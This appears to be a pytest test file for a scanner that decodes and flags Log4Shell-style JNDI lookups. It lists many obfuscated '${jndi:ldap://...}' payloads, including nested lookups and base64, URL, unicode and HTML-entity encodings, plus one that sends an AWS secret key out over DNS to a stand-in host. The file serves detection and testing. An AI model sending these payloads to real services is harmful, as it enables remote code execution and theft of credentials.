"""Log4j-style decoding of lookups: each obfuscation of the grammar, and what must not match."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clearinghouse.scan.lookups import (
    _BACKSLASH,
    MAX_DEPTH,
    JndiPayload,
    _backslash,
    _Expander,
    _unterminated,
    describe,
    expand,
    jndi_payloads,
    normalise,
)


def hosts(text: str) -> list[str | None]:
    return [payload.host for _, payload in jndi_payloads(text)]


@pytest.mark.parametrize(
    ("text", "decoded"),
    [
        ("${jndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${lower:j}ndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${upper:j}${upper:n}di:ldap://e.com/a}", "${JNdi:ldap://e.com/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${date:'j'}ndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${${lower:${upper:${::-j}}}ndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("${base64:JHtqbmRpOmxkYXA6Ly9lLmNvbS9hfQ==}", "${jndi:ldap://e.com/a}"),
        ("${JnDi:ldap://e.com/a}", "${JnDi:ldap://e.com/a}"),
        ("%24%7Bjndi%3Aldap%3A%2F%2Fe.com%2Fa%7D", "${jndi:ldap://e.com/a}"),
        ("%2524%257Bjndi%253Aldap%253A%252F%252Fe.com%252Fa%257D", "${jndi:ldap://e.com/a}"),
        ("\\u0024\\u007bjndi:ldap://e.com/a\\u007d", "${jndi:ldap://e.com/a}"),
        ("\\x24\\x7bjndi:ldap://e.com/a\\x7d", "${jndi:ldap://e.com/a}"),
        ("\\\\u0024{jndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),  # JSON-escaped once
        ("\\" * 8 + "u0024" + "\\" * 8 + "u007Bjndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("\\" * 3000 + "x24\\\\x7bjndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("&#" + "0" * 5000 + "36;&#123;jndi:ldap://e.com/a}", "${jndi:ldap://e.com/a}"),
        ("&#36;&#123;jndi:ldap://e.com/a&#125;", "${jndi:ldap://e.com/a}"),
        ("&dollar;&lbrace;jndi:ldap://e.com/a&rbrace;", "${jndi:ldap://e.com/a}"),
        ("${jndi:ldap://e.com/a", "${jndi:ldap://e.com/a}"),  # a cut line is still an attempt
    ],
)
def test_each_obfuscation_decodes_to_the_lookup(text: str, decoded: str) -> None:
    ((ordinal, payload),) = jndi_payloads(f"GET /?q={text} HTTP/1.1")
    assert payload.decoded == decoded
    assert payload.host == "e.com"
    assert ordinal == 0


@pytest.mark.parametrize(
    "text",
    [
        "${HOME}/bin",
        "${user.dir}",
        "${foo:-bar}",
        "${env:PATH}",
        "${lower:JNDI}",  # yields the word, not a lookup
        "${::-jndi:ldap://e.com/a}",  # a default is a value, not a lookup
        "${}",
        "$ {jndi:ldap://e.com/a}",
        "jndi:ldap://e.com/a",
        "%24jndi",
    ],
)
def test_lookups_that_are_no_attack_are_not_reported(text: str) -> None:
    assert jndi_payloads(text) == []


def test_protocol_host_and_port_are_read_from_the_name() -> None:
    payload = describe("jndi:LDAP://User@Evil.Example:1389/Exploit")
    assert (payload.protocol, payload.host, payload.port) == ("ldap", "evil.example", 1389)
    exfil = describe("jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example/x")
    assert exfil.host == "${env:AWS_SECRET_ACCESS_KEY}.evil.example"
    assert describe("jndi:rmi://[2001:db8::1]:1099/o").host == "[2001:db8::1]"
    assert describe("jndi:ldap://e.com:99999/a").port is None
    assert describe("jndi:java:comp/env").protocol == "java"


def test_each_lookup_of_a_line_points_at_its_own_opening() -> None:
    line = "${foo} a=${jndi:ldap://one.com/a} b=%24%7Bjndi:rmi://two.com/b%7D"
    assert [(ordinal, p.host) for ordinal, p in jndi_payloads(line)] == [
        (1, "one.com"),
        (2, "two.com"),
    ]


def test_depth_and_rounds_are_bounded() -> None:
    deep = "${lower:" * 5000 + "j" + "}" * 5000
    value, found = expand(deep)
    assert found == []
    assert len(value) < len(deep)
    onion = "$"
    for _ in range(50):
        onion = onion.replace("%", "%25") if "%" in onion else "%24"
    assert normalise(onion) != "$"  # 50 layers: more than MAX_ROUNDS are left as they are


def test_a_run_of_backslashes_is_decoded_in_linear_time() -> None:
    # Before: _BACKSLASH retried every backslash of a run to its end; 0.5 s for the 8,192
    # characters decoded after a candidate, about 5 minutes for these.
    started = time.perf_counter()
    assert normalise("\\" * 200_000 + "u0024" + "\\" * 200_000) == "$" + "\\" * 200_000
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"


# The backslash step before it was made linear, kept as the definition the new one must agree with.
QUADRATIC_BACKSLASH = re.compile(r"\\+(?:[uU]([0-9A-Fa-f]{4})|[xX]([0-9A-Fa-f]{2}))")
ESCAPE_PIECES = ["u0024", "U007b", "x24", "X7B", "u00", "x2", "uZZZZ", "u", "x", *"04a${ "]


@settings(max_examples=500, database=None)
@given(
    st.lists(
        st.one_of(
            st.integers(1, 12).map(lambda n: "\\" * n),
            st.sampled_from(ESCAPE_PIECES),
        ),
        max_size=40,
    ).map("".join)
)
def test_the_linear_backslash_step_agrees_with_the_quadratic_one(text: str) -> None:
    assert _BACKSLASH.sub(_backslash, text) == QUADRATIC_BACKSLASH.sub(_backslash, text)


@pytest.mark.parametrize(
    ("text", "decoded"),
    [
        ("&#" + "0" * 5000 + "36;", "$"),
        ("&#" + "0" * 5000 + ";", "\ufffd"),
        ("&#" + "9" * 5000 + ";", "\ufffd"),  # beyond U+10FFFF, as html.unescape says
        ("&#00000000123", "{"),
        ("&#" + "0" * 5000 + "128;", "\u20ac"),  # html's Windows-1252 mapping still applies
    ],
)
def test_decimal_references_of_any_length_decode_as_html_does(text: str, decoded: str) -> None:
    # html.unescape alone raises ValueError past 4,300 digits (int's limit), which stopped
    # the scan of the rest of the file: one line could hide every attempt after it.
    assert normalise(text) == decoded


# --- every lookup of a line, however far in -------------------------------------------------


def test_a_lookup_behind_a_decoy_and_more_padding_than_the_old_window_is_read() -> None:
    # Before: only 8,192 characters after the first candidate were decoded.
    line = "GET /?q=${x}" + " " * 9000 + "${jndi:ldap://e.com:1389/a} HTTP/1.1"
    ((ordinal, payload),) = jndi_payloads(line)
    assert ordinal == 1
    assert (payload.protocol, payload.host, payload.port) == ("ldap", "e.com", 1389)


def test_an_escape_behind_a_longer_run_of_backslashes_than_the_old_window_is_read() -> None:
    ((ordinal, payload),) = jndi_payloads("\\" * 9000 + "u0024{jndi:rmi://e.com/a}")
    assert (ordinal, payload.decoded) == (0, "${jndi:rmi://e.com/a}")


def test_a_megabyte_of_unclosed_lookups_is_expanded_in_one_pass() -> None:
    # Each of the 200 open levels joined the rest of the text when it ran out (200 copies of
    # it), and a lookup was looked for again after each "${"; now one join, one pass.
    flood = "${" * 512 * 1024
    started = time.perf_counter()
    value, found = expand(flood)
    assert (value, found) == (flood, [])
    assert hosts(flood + "${jndi:ldap://e.com/a}") == ["e.com"]
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"


# The decoder before it read whole lines, kept as the definition the new one must agree with on
# text the old window held whole: recursive expansion, one level per "${"; every lookup
# expanded twice when it named no JNDI; ordinals counted from the start each time.
class FormerExpander(_Expander):
    def expand_at(self, text: str, start: int, depth: int = 0) -> tuple[str, int]:
        parts: list[str] = []
        index = start + 2
        while True:
            special = re.compile(r"\$\{|\}").search(text, index)
            if special is None:
                parts.append(text[index:])
                return "${" + "".join(parts), len(text)
            parts.append(text[index : special.start()])
            if special.group() == "}":
                return self.evaluate("".join(parts)), special.end()
            if depth >= MAX_DEPTH:
                parts.append("${")
                index = special.end()
                continue
            value, index = self.expand_at(text, special.start(), depth + 1)
            parts.append(value)


def former_expand(text: str) -> tuple[str, list[str]]:
    expander = FormerExpander()
    out: list[str] = []
    index = 0
    while (start := text.find("${", index)) >= 0:
        out.append(text[index:start])
        value, index = expander.expand_at(text, start)
        out.append(value)
    out.append(text[index:])
    return "".join(out), expander.found


def former_jndi_payloads(text: str) -> list[tuple[int, JndiPayload]]:
    normal = normalise(text[:8192])
    found: list[tuple[int, JndiPayload]] = []
    seen: set[str] = set()
    index = normal.find("${")
    while index >= 0:
        expander = FormerExpander()
        resolved, end = expander.expand_at(normal, index)
        names = list(expander.found)
        if not names:
            again, more = former_expand(resolved)
            names = more or _unterminated(again)
        ordinal = normal.count("${", 0, index)
        for name in names:
            if name not in seen:
                seen.add(name)
                found.append((ordinal, describe(name)))
        index = normal.find("${", max(end, index + 2))
    return found


# Lookup-shaped text: openings and closings (plain and encoded), prefixes that are evaluated,
# defaults, JNDI names, and the plain text between them.
LOOKUP_PIECES = st.sampled_from(
    [
        *("${", "${", "}", "}", "%24%7B", "\\u0024{", "&#36;&#123;", "%7D", ":", ":-", "::-"),
        *("jndi:", "JnDi:", "j", "ndi", "lower:", "upper:", "date:'j'", "env:X:-", "base64:"),
        *("JHtqbmRpOmxkYXA6Ly9lLmNvbS9hfQ==", "ldap://", "e.com", "/a", " ", "x", "$", "{", "'"),
        *("BaSe64:", "JNDI", "jnd\u0130", "\u017f", "\u0130", "\u212a", "\t"),
    ]
)


@settings(max_examples=1000, database=None)
@given(st.lists(LOOKUP_PIECES, max_size=60).map("".join))
def test_the_whole_line_decoder_agrees_with_the_former_one_on_short_text(text: str) -> None:
    assert jndi_payloads(text) == former_jndi_payloads(text)


def test_the_whole_line_decoder_agrees_with_the_former_one_at_the_depth_bound() -> None:
    for depth in (MAX_DEPTH - 1, MAX_DEPTH, MAX_DEPTH + 1, MAX_DEPTH + 5):
        for tail in ("${jndi:ldap://e.com/a}", "${${lower:j}ndi:ldap://e.com/a}}", "x}}}"):
            for opening in ("${", "${a:-", "${lower:"):
                text = opening * depth + tail + "}" * (depth // 2)
                assert expand(text) == former_expand(text), (depth, tail, opening)
                assert jndi_payloads(text) == former_jndi_payloads(text), (depth, tail, opening)
